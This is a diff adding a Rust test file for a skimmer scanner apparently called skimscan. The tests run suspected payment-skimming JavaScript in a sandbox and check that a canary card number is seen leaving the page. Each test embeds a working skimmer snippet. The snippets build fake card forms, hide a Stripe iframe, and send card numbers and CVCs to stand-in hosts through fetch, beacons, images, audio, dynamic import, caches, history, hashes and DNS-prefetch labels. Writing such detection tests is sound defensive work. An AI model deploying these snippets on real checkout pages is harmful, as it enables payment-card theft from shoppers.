@@ -1,0 +1,252 @@
+//! The stub page (`sandbox::emulate`) is the last resort for code no static reading gets
+//! through (a machine obfuscator whose decoders have no shape the plans know): the script runs
+//! whole in the sealed interpreter, and what it sends is looked at for the canaries the page's
+//! fields answered. Each test here is a way a skimmer builds its own form, hands data on or
+//! sends it that the page used to lack, so the script stopped (a missing API threw) or sent
+//! nothing; written plain, because the stub page runs the code whatever it looks like.
+
+use skimscan::js::sandbox::emulate::{Observed, layer, limits, observe};
+
+/// The canary card number the stub page answers for card-number fields.
+const PAN: &str = "4111111111111111";
+
+fn run(src: &str) -> Observed {
+    observe(src, limits(false), None).expect("the stub page runs")
+}
+
+/// The data of the sends to `host`, one string each (URL and body).
+fn sent_to(obs: &Observed, host: &str) -> Vec<String> {
+    obs.sends
+        .iter()
+        .filter(|(_, url, _)| url.contains(host))
+        .map(|(how, url, data)| format!("{how} {url} {data}"))
+        .collect()
+}
+
+fn assert_card_sent(obs: &Observed, host: &str) {
+    let sent = sent_to(obs, host);
+    assert!(!sent.is_empty(), "nothing sent to {host}: {:?}", obs.sends);
+    // The layer made of the run names the card field (the canary was found in what was sent,
+    // in whatever encoding).
+    let code = layer(obs, true).unwrap_or_default();
+    assert!(
+        code.contains(host) && code.contains(".value"),
+        "no card flow to {host} in the layer:\n{code}\nsends: {sent:?}"
+    );
+}
+
+#[test]
+fn a_form_written_into_a_shadow_root_is_read_back() {
+    let obs = run(r#"
+        var host = document.createElement('div');
+        document.querySelector('#payment').appendChild(host);
+        var root = host.attachShadow({ mode: 'closed' });
+        root.innerHTML = '<label>Card number<input id="n"></label><label>Expiry<input id="e"></label>'
+          + '<label>CVC<input id="c"></label><button id="go">Pay now</button>';
+        root.getElementById('go').addEventListener('click', function () {
+          var d = { n: root.getElementById('n').value, c: root.getElementById('c').value };
+          fetch('https://shadow.example/api', { method: 'POST', body: JSON.stringify(d) });
+        });
+    "#);
+    assert_card_sent(&obs, "shadow.example");
+}
+
+#[test]
+fn markup_parsed_by_domparser_is_a_form_with_its_fields() {
+    let obs = run(r#"
+        var html = '<form id="pf"><input name="ccnum" placeholder="Card number">'
+          + '<input name="cvv" placeholder="CVV"></form>';
+        var form = new DOMParser().parseFromString(html, 'text/html').body.firstChild;
+        document.querySelector('.payment-methods').prepend(form);
+        form.addEventListener('submit', function () {
+          new Image().src = 'https://parsed.example/i.gif?' + new URLSearchParams(new FormData(form));
+        });
+    "#);
+    assert_card_sent(&obs, "parsed.example");
+    let sent = sent_to(&obs, "parsed.example").join(" ");
+    assert!(sent.contains(&format!("ccnum={PAN}")), "{sent}");
+}
+
+#[test]
+fn a_range_fragment_and_data_attribute_selectors_find_the_written_fields() {
+    let obs = run(r#"
+        var tpl = '<div class="cc"><input data-k="pan" placeholder="Kartennummer">'
+          + '<input data-k="cvc" placeholder="Prüfnummer"></div>';
+        var frag = document.createRange().createContextualFragment(tpl);
+        document.getElementById('checkout-payment').appendChild(frag);
+        document.addEventListener('click', function () {
+          var out = {};
+          document.querySelectorAll('.cc [data-k]').forEach(function (i) { out[i.dataset.k] = i.value; });
+          navigator.sendBeacon('https://frag.example/c', JSON.stringify(out));
+        }, true);
+    "#);
+    let sent = sent_to(&obs, "frag.example").join(" ");
+    assert!(sent.contains(&format!("\"pan\":\"{PAN}\"")), "{sent}");
+    assert_card_sent(&obs, "frag.example");
+}
+
+#[test]
+fn fields_made_in_a_loop_are_sent_when_the_customer_leaves() {
+    // Climbing to a found frame's container to hide it must not throw first.
+    let obs = run(r#"
+        var inputs = [];
+        ['Card Number', 'Expiration (MM/YY)', 'Security Code'].forEach(function (l) {
+          var i = document.createElement('input');
+          i.setAttribute('placeholder', l);
+          inputs.push(i);
+        });
+        var iframe = document.querySelector('iframe[src*="js.stripe.com"]');
+        if (iframe) iframe.parentNode.style.display = 'none';
+        window.addEventListener('beforeunload', function () {
+          navigator.sendBeacon('https://loop.example/b', btoa(inputs.map(function (i) { return i.value; }).join('|')));
+        });
+    "#);
+    assert_card_sent(&obs, "loop.example");
+}
+
+#[test]
+fn a_frame_document_written_with_open_write_close_is_found_again() {
+    let obs = run(r#"
+        var fr = document.createElement('iframe');
+        document.querySelector('#payment').appendChild(fr);
+        var d = fr.contentWindow.document;
+        d.open();
+        d.write('<html><body><input id="cn" placeholder="Card number"><input id="cc" placeholder="CVC"></body></html>');
+        d.close();
+        var d2 = fr.contentDocument;
+        document.querySelector('#checkout-submit').addEventListener('click', function () {
+          var x = new XMLHttpRequest();
+          x.open('POST', 'https://frame.example/s');
+          x.send(['cn', 'cc'].map(function (k) { return d2.getElementById(k).value; }).join(';'));
+        });
+    "#);
+    assert_card_sent(&obs, "frame.example");
+}
+
+#[test]
+fn jquery_elements_made_with_attributes_keep_them() {
+    let obs = run(r#"
+        jQuery(function ($) {
+          var $num = $('<input/>', { type: 'text', placeholder: 'Numéro de carte' });
+          var $cvv = $('<input/>', { type: 'text', placeholder: 'Cryptogramme' });
+          $('<div class="fake-cc"/>').append($num, $cvv).insertBefore('#payment_method_stripe');
+          $('#place_order').on('mousedown', function () {
+            $.post('https://jq.example/save', { a: $num.val(), c: $cvv.val() });
+          });
+        });
+    "#);
+    assert_card_sent(&obs, "jq.example");
+}
+
+#[test]
+fn a_created_forms_elements_are_the_fields_written_into_it() {
+    let obs = run(r#"
+        var f = document.createElement('form');
+        f.innerHTML = '<input name="cardnumber" autocomplete="cc-number"><input name="cvc" autocomplete="cc-csc">';
+        document.querySelector('#payment-container').appendChild(f);
+        f.addEventListener('submit', function () {
+          var o = {};
+          for (var i = 0; i < f.elements.length; i++) o[f.elements[i].name] = f.elements[i].value;
+          fetch('https://own-form.example/collect', { method: 'POST', body: JSON.stringify(o) });
+        });
+    "#);
+    let sent = sent_to(&obs, "own-form.example").join(" ");
+    assert!(
+        sent.contains(&format!("\"cardnumber\":\"{PAN}\"")),
+        "{sent}"
+    );
+}
+
+#[test]
+fn a_timers_extra_arguments_reach_its_callback() {
+    let obs = run(r#"
+        var img = new Image();
+        var go = function (d) { img.src = 'https://timer.example/e?d=' + d; };
+        document.addEventListener('submit', function () {
+          setTimeout(go, 0, btoa(document.getElementById('cc_number').value));
+        }, true);
+    "#);
+    assert_card_sent(&obs, "timer.example");
+}
+
+#[test]
+fn audio_and_dynamic_import_are_requests() {
+    let obs = run(r#"
+        document.addEventListener('submit', function () {
+          var c = btoa(document.getElementById('cc_number').value);
+          new Audio('https://audio.example/a.mp3?d=' + c);
+          import('https://module.example/m.js?d=' + c).catch(function () {});
+        }, true);
+    "#);
+    assert_card_sent(&obs, "audio.example");
+    assert_card_sent(&obs, "module.example");
+    assert!(obs.sends.iter().any(|(how, _, _)| how == "import"));
+}
+
+#[test]
+fn history_state_the_cache_api_and_the_hash_hand_data_on() {
+    let obs = run(r#"
+        document.addEventListener('change', function () {
+          var c = document.getElementById('cc_number').value;
+          history.replaceState({ d: c }, '');
+          caches.open('v1').then(function (k) { return k.put('/_c', new Response(c)); });
+          location.hash = btoa(c);
+        }, true);
+        document.addEventListener('submit', function () {
+          navigator.sendBeacon('https://history.example/b', JSON.stringify(history.state));
+          caches.open('v1').then(function (k) { return k.match('/_c'); })
+            .then(function (r) { return r.text(); })
+            .then(function (t) { fetch('https://cache.example/c', { method: 'POST', body: t }); });
+        }, true);
+        window.addEventListener('hashchange', function () {
+          fetch('https://hash.example/h?d=' + location.hash.slice(1));
+        });
+    "#);
+    assert_card_sent(&obs, "history.example");
+    assert_card_sent(&obs, "cache.example");
+    assert_card_sent(&obs, "hash.example");
+}
+
+#[test]
+fn card_data_in_lower_cased_host_labels_is_found() {
+    // Host names are case-insensitive: Base64 put into DNS labels arrives folded.
+    let obs = run(r#"
+        document.addEventListener('submit', function () {
+          var c = document.getElementById('cc_number').value + '|' + document.getElementById('cc_cid').value;
+          var l = document.createElement('link'); l.rel = 'dns-prefetch';
+          l.href = '//' + btoa(c).replace(/=/g, '').toLowerCase().slice(0, 60) + '.labels.example';
+          document.head.appendChild(l);
+        }, true);
+    "#);
+    assert_card_sent(&obs, "labels.example");
+}
+
+#[test]
+fn the_page_address_a_script_sees_keeps_a_checkout_path() {
+    // A script that acts only on its shop's checkout: the known host, on a checkout path.
+    let src = r#"
+        if (location.hostname === 'www.kestrel.example' && /checkout|onepage/.test(location.pathname)) {
+          document.addEventListener('submit', function () {
+            fetch('https://gated.example/c', { method: 'POST', body: document.getElementById('cc_number').value });
+          }, true);
+        }
+    "#;
+    let job = skimscan::js::AnalysisJob {
+        script_id: "gated.js".into(),
+        kind: skimscan::inventory::ScriptKind::External,
+        code: src.into(),
+        page_url: "site/checkout.html".into(),
+        page_host: Some("www.kestrel.example".into()),
+        payment_page: true,
+        page_fields: Vec::new(),
+        page_values: Default::default(),
+        line_offset: 1,
+        column_offset: 1,
+    };
+    let url = job.stub_page_url().expect("a host is known");
+    let obs = observe(src, limits(false), Some(&url)).unwrap();
+    assert_card_sent(&obs, "gated.example");
+    // On another host the script stays quiet.
+    let other = observe(src, limits(false), None).unwrap();
+    assert!(sent_to(&other, "gated.example").is_empty());
+}
